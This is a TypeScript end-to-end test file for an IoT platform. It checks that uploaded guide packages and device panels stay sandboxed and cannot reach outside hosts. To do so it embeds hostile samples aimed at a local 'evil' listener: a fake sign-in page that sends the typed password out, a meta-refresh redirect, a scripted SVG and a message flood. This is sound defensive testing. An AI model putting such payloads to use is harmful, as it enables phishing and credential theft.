import type { IncomingMessage } from "node:http";
import { accounts } from "@thingwright/contract/accounts/accounts.ts";
import { devices } from "@thingwright/contract/devices/devices.ts";
import { files } from "@thingwright/contract/content/files.ts";
import { guideAddress } from "@thingwright/contract/content/guide-packages.ts";
import { panelDevelopment } from "@thingwright/contract/content/panel-development.ts";
import { shares } from "@thingwright/contract/content/shares.ts";
import { deepOnly } from "@thingwright/server/test/deep.ts";
import { eventually } from "@thingwright/server/test/eventually.ts";
import { forFile } from "@thingwright/server/test/for-file.ts";
import { startPlatform } from "@thingwright/server/test/harness.ts";
import { panelManifest, panelZip } from "@thingwright/server/test/panel-zip.ts";
import { zipOf } from "@thingwright/server/test/zips.ts";
import type { Frame, Page } from "playwright-core";
import { beforeEach, expect, test } from "vitest";
import { browserForTests } from "./src/browser.ts";
import { hostileGuide, hostilePanel, outcomeOf } from "./src/hostile-guide.ts";
import { startListener } from "./src/listener.ts";
import { accessProblems } from "./src/look.ts";
import { bulb, develop, examplePanel, release, releaseVersion } from "./src/panel-maker.ts";

const browser = browserForTests();

/** Whether browsers are as they were: without Connection-Allowlist, and silent about what they would show a file as. */
let isOlder = false;
const browsers = [
  ["a browser of today", false],
  ["an older one, or over plain http", true],
] as const;
const platform = await forFile(
  startPlatform({}, ({ app }) => {
    app.server.prependListener("request", ({ headers }: IncomingMessage) => {
      if (!isOlder) return;
      for (const name of Object.keys(headers)) if (name.startsWith("sec-fetch-")) delete headers[name];
    });
    app.addHook("onSend", (_request, reply, _payload, done) => {
      if (isOlder) void reply.removeHeader("connection-allowlist");
      done();
    });
  }),
);
const actor = await platform.actor();

const evil = await forFile(startListener());
beforeEach(() => {
  isOlder = false;
  evil.heard.splice(0);
});

async function keep(pages: Record<string, string>): Promise<string> {
  const file = new File([new Uint8Array(await zipOf(pages))], "guide.zip");
  const { url } = await actor.ok(files.uploadTiny, { file, body: { purpose: "guide" } });
  return guideAddress(url, "zh-CN", "dark");
}

const visit = () => browser.open({ url: platform.url, token: actor.token });

async function insideFrame(page: Page, address: string, sandbox: string | null): Promise<Frame> {
  await page.evaluate(
    ([src, tokens]) => {
      const frame = document.createElement("iframe");
      frame.name = "guide";
      if (tokens !== null) frame.setAttribute("sandbox", String(tokens));
      frame.src = String(src);
      document.body.append(frame);
    },
    [address, sandbox],
  );
  await expect.poll(() => page.frame("guide")?.url()).toContain("/guide/");
  const frame = page.frame("guide");
  if (!frame) throw new Error("the frame is gone");
  return frame;
}

test.each([
  ["in a sandboxed frame", "allow-scripts", false],
  ["in a frame that is not", null, false],
  ["in a frame of an older browser", null, true],
])(
  "a hostile guide package %s reaches nothing outside itself, and still loads its own files",
  deepOnly,
  async (_, sandbox, older) => {
    isOlder = older;
    const { page, expectProblem } = await visit();
    expectProblem(/./);
    await page.goto("/dashboard/product/productList");
    const here = page.url();
    const frame = await insideFrame(page, await keep(hostileGuide({ ...evil, leaves: true })), sandbox);
    expect(await outcomeOf(frame)).toEqual([]);
    const own = await frame.evaluate(() => ({
      colour: getComputedStyle(document.querySelector("#own") ?? document.body).color,
      width: document.querySelector<HTMLImageElement>("#picture")?.naturalWidth,
      imported: (globalThis as { imported?: string }).imported,
      language: new URLSearchParams(location.search).get("lang"),
      theme: new URLSearchParams(location.search).get("theme"),
      origin,
    }));
    expect(own).toEqual({
      colour: "rgb(1, 2, 3)",
      width: 7,
      imported: "loaded",
      language: "zh-CN",
      theme: "dark",
      origin: "null",
    });
    // The page around it is told that the frame was refused to leave.
    await page.evaluate(() => {
      const heard: string[] = ((globalThis as { heard?: string[] }).heard = []);
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        heard.push(`${effectiveDirective} ${blockedURI}`),
      );
    });
    await frame.evaluate((url) => location.assign(`${url}/self`), evil.url);
    await expect
      .poll(() => page.evaluate(() => (globalThis as { heard?: string[] }).heard))
      .toEqual([expect.stringContaining(`frame-src ${evil.url}`)]);
    // WebRTC is closed where browsers know how.
    expect(evil.heard.filter((one) => !older || one !== "a datagram")).toEqual([]);
    expect(page.url()).toBe(here);
    expect(page.context().pages()).toHaveLength(1);
  },
);

test.each(browsers)(
  "a guide that is opened directly is framed by a page of the platform and cannot navigate away, in %s",
  deepOnly,
  async (_, is) => {
    isOlder = is;
    const { nickname } = await actor.ok(accounts.current);
    const { page, expectProblem } = await browser.open({ url: platform.url, language: "zh_CN" });
    expectProblem(/./);
    const leave = (what: string) => `location.assign("${evil.url}/told?" + ${what})`;
    const address = await keep({
      "index.html": `<!doctype html><html lang="en"><title>Sign in</title>
<label>Password <input></label> <button>Sign in</button>
<a href="${evil.url}/away">Away</a> <a href="more.html">More</a>
<script>document.querySelector("button").onclick = () => ${leave('document.querySelector("input").value')};</script>`,
      "more.html": "<p>More of it</p>",
      "moved.html": `<meta http-equiv="refresh" content="0; url=${evil.url}/moved">`,
      "drawn.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>${leave("1")}</script></svg>`,
    });
    const guide = page.frameLocator("iframe");
    const open = async (path = "") => {
      await page.goto(address.replace("?", `${path}?`));
      await page.waitForURL(({ pathname }) => pathname.startsWith("/guide-page/"));
      await page.getByText("并非本站运营方提供").waitFor();
    };
    await open();
    expect(await page.locator("strong").innerText()).toBe(nickname);
    expect(await accessProblems(page)).toEqual([]);
    await guide.getByLabel("Password").fill("secret");
    const refused = () => page.waitForEvent("console", (message) => message.text().includes("frame-src"));
    const told = refused();
    await guide.getByRole("button", { name: "Sign in" }).click();
    await told;
    await open();
    const away = refused();
    await guide.getByRole("link", { name: "Away" }).click();
    await away;
    const moved = refused();
    await open("moved.html");
    await moved;
    await open();
    await guide.getByRole("link", { name: "More" }).click();
    await guide.getByText("More of it").waitFor();
    // In an older browser a picture has the window, and is one.
    const drawn = page.waitForResponse("**/drawn.svg?*");
    await page.goto(address.replace("?", "drawn.svg?"));
    await (await drawn).finished();
    expect(evil.heard).toEqual([]);
  },
);

const power = { identifier: "switch", data_types: ["bool"], transfer_type: "issue_report" };

test(
  "a hostile panel can call only its own folder, and is stopped when it navigates away or floods",
  deepOnly,
  async () => {
    const maker = await platform.actor();
    const { product, device } = await bulb(platform, maker);
    const { page, expectProblem } = await browser.open({ url: platform.url, token: maker.token });
    expectProblem(/./);
    await page.goto(`/dashboard/product/${product.id}/config/panel`);
    await page.getByRole("group", { name: "Phone with the panel" }).waitFor();
    const hostile = await panelZip({ points: [power] }, hostilePanel({ ...evil, leaves: true }));
    const shown = async () => {
      await expect.poll(() => page.frames().some((one) => one.url().includes("/panel-bundle/"))).toBe(true);
      return page.frames().find((one) => one.url().includes("/panel-bundle/"))!;
    };
    await develop(maker, new Uint8Array(await hostile.arrayBuffer()));
    const frame = await shown();
    // Its own folder is all that it can call, as nobody has allowed more.
    expect(await outcomeOf(frame)).toEqual([expect.stringContaining("ownFetch: DONE #own")]);
    expect(evil.heard).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);

    // What it asks of the bridge is bounded by its manifest.
    const told = (id: number) =>
      frame.evaluate(
        (of) =>
          (globalThis as unknown as { heard: string[] }).heard
            .map((one) => JSON.parse(one) as { id?: number; type: string; reason?: string })
            .find((one) => one.id === of),
        id,
      );
    const asks = async (message: Record<string, unknown> & { id: number }) => {
      await frame.evaluate(
        (text) => (globalThis as unknown as { port: MessagePort }).port.postMessage(text, []),
        JSON.stringify(message),
      );
      await expect.poll(() => told(message.id)).toBeDefined();
      return (await told(message.id))?.reason;
    };
    expect(await asks({ id: 1, type: "issue", params: { brightness: 50 } })).toBe("not_named");
    expect(await asks({ id: 2, type: "history", identifier: "brightness", from: 0, to: 9, points: 10 })).toBe(
      "not_named",
    );
    expect(await asks({ id: 3, type: "issue", params: { switch: "yes" } })).toBe("invalid");
    expect(await asks({ id: 4, type: "remove" })).toBe("invalid");
    const known = await frame.evaluate(() => (globalThis as unknown as { heard: string[] }).heard.join());
    expect(known).toContain('"switch"');
    for (const never of ["brightness", device.id, product.id, maker.token])
      expect(known).not.toContain(never);

    // Another panel's address, whatever that one may call, is as far away as another server.
    const stranger = await platform.actor();
    const origins = ["https://evil.example"];
    const allowed = await panelZip({ points: [power], origins });
    const { id: file_id } = await stranger.ok(files.uploadTiny, {
      file: allowed,
      body: { purpose: "panel" },
    });
    const { bundle: other } = await stranger.ok(panelDevelopment.show, { body: { file_id, origins } });
    const asked: string[] = [];
    page.on("request", (request) => void asked.push(new URL(request.url()).pathname));
    const refused = page.waitForEvent("console", (message) => message.text().includes(other.address));
    await frame.evaluate((address) => location.replace(new URL(address, location.href)), other.address);
    expect((await refused).text()).toContain("frame-src");
    const stopped = page.getByRole("alert").filter({ hasText: "The panel misbehaved and was stopped" });
    await stopped.waitFor();
    // Nor does it come to be the first that has finished loading.
    const hasty = await panelZip(
      { points: [power] },
      { "index.html": `<script>location.replace(new URL("${other.address}", location.href))</script>` },
    );
    const refusedAgain = page.waitForEvent("console", (message) => message.text().includes(other.address));
    await develop(maker, new Uint8Array(await hasty.arrayBuffer()));
    expect((await refusedAgain).text()).toContain("frame-src");
    expect(asked).not.toContain(other.address);
    await develop(maker, new Uint8Array(await hostile.arrayBuffer()));
    const heard = async () => {
      const one = await shown();
      return one.evaluate(() => (globalThis as unknown as { heard?: string[] }).heard?.length ?? 0);
    };
    // Until the hostile panel is there, the frame is that of the hasty one, and goes while it is asked.
    await expect.poll(() => heard().catch(() => 0)).toBeGreaterThan(0);
    const again = await shown();
    await again.evaluate(() => {
      for (let i = 0; i < 50_000; i += 1) parent.postMessage({ thingwright: "hello", bridge: 1 }, "*");
    });
    await stopped.waitFor();
    expect(await accessProblems(page)).toEqual([]);
    await page.getByRole("button", { name: "Use the generic panel" }).click();
    await page.getByRole("slider", { name: "Brightness" }).waitFor();
    expect(evil.heard).toEqual([]);
  },
);

test("the example panel can be chosen for a product, and controls its device in the console and on a touch phone", async () => {
  const maker = await platform.actor();
  const { product, device } = await bulb(platform, maker);
  const panelId = await release(maker, await examplePanel());
  const { page } = await browser.open({ url: platform.url, token: maker.token });
  await page.goto(`/dashboard/product/${product.id}/config/panel`);
  const panel = page.frameLocator("iframe").frameLocator("iframe");
  await page.getByRole("button", { name: "Change panel" }).press("Enter");
  await page.getByRole("button", { name: /^Try Panel/ }).press("Enter");
  await panel.getByRole("button", { name: /Turn (on|off)/ }).waitFor();
  await page.getByRole("button", { name: "Choose this panel" }).press("Enter");
  await page.getByText("Version 1.0.0", { exact: true }).waitFor();
  const reports = (wanted: Record<string, unknown>) =>
    eventually(async () => {
      const { list } = await maker.ok(devices.properties, { params: { id: device.id } });
      const values = list.map(({ identifier, reported }) => [identifier, reported?.value] as const);
      expect(Object.fromEntries(values)).toMatchObject(wanted);
    });
  await panel.getByRole("button", { name: /Turn (on|off)/ }).waitFor();
  await panel.getByRole("radio", { name: "Color" }).check();
  await reports({ switch: true, work_mode: "color" });
  await panel.getByRole("slider", { name: "Hue" }).press("Home");
  await panel.getByRole("slider", { name: "Saturation" }).press("End");
  await reports({ color: { h: 0, s: 100 } });
  await panel.getByRole("slider", { name: "Hue" }).press("ArrowRight");
  await reports({ color: { h: 1, s: 100 } });
  expect(await accessProblems(page)).toEqual([]);

  const { url } = await maker.ok(shares.ofPanel, { params: { id: product.id } });
  const visitor = await browser.open({ url: platform.url, width: 390, touch: true });
  const phone = await visitor.page.context().newCDPSession(visitor.page);
  await phone.send("Emulation.setSafeAreaInsetsOverride", { insets: { top: 47, bottom: 34 } });
  await visitor.page.goto(new URL(url).pathname);
  const there = visitor.page.frameLocator("iframe").frameLocator("iframe");
  const wheel = there.locator("#disc");
  // The wheel is hidden until the panel knows that the lamp shows a colour.
  await wheel.waitFor();
  const disc = (await wheel.boundingBox())!;
  // It reaches to the lower edge, and hears what the phone covers there; the title keeps it from the upper one.
  const edge = (name: string) =>
    there.locator("html").evaluate((root, of) => root.style.getPropertyValue(of), name);
  expect([await edge("--top"), await edge("--bottom")]).toEqual(["0px", "34px"]);
  await visitor.page.touchscreen.tap(disc.x + disc.width * 0.9, disc.y + disc.height / 2);
  await reports({ color: { h: 90, s: 80 } });
  await there.getByRole("radio", { name: "White" }).tap();
  await reports({ work_mode: "white" });
  await there.getByRole("button", { name: "Turn off" }).tap();
  await reports({ switch: false });
  await panel.getByRole("button", { name: "Turn on" }).waitFor();
  expect(await accessProblems(visitor.page)).toEqual([]);

  // A later version comes with “latest” once it has shown itself to somebody here.
  const greeting = `addEventListener("message", ({ data, ports: [port] }) =>
    data.thingwright === "welcome" && port.postMessage('{"type":"started"}'));
    parent.postMessage({ thingwright: "hello", bridge: 1 }, "*");`;
  const newer = { "index.html": `<h1>Newer</h1><script>${greeting}</script>` };
  await releaseVersion(maker, panelId, await panelZip({ version: "1.1.0", points: [power] }, newer));
  await visitor.page.reload();
  await there.getByRole("button", { name: "Turn on" }).waitFor();
  await page.reload();
  await page.getByText("Version 1.1.0 needs a preview").waitFor();
  await page.getByRole("button", { name: "Preview" }).press("Enter");
  await panel.getByRole("heading", { name: "Newer" }).waitFor();
  await page.getByText("Version 1.1.0 was previewed and now runs for this product").waitFor();
  await page.getByText("needs a preview").waitFor({ state: "detached" });
  await visitor.page.reload();
  await there.getByRole("heading", { name: "Newer" }).waitFor();

  // While it is written, it is there again as soon as it is changed.
  const changed = await panelZip(panelManifest, { "index.html": "<p>Changed</p>" });
  await develop(maker, new Uint8Array(await changed.arrayBuffer()));
  await panel.getByText("Changed").waitFor({ state: "attached" });
});
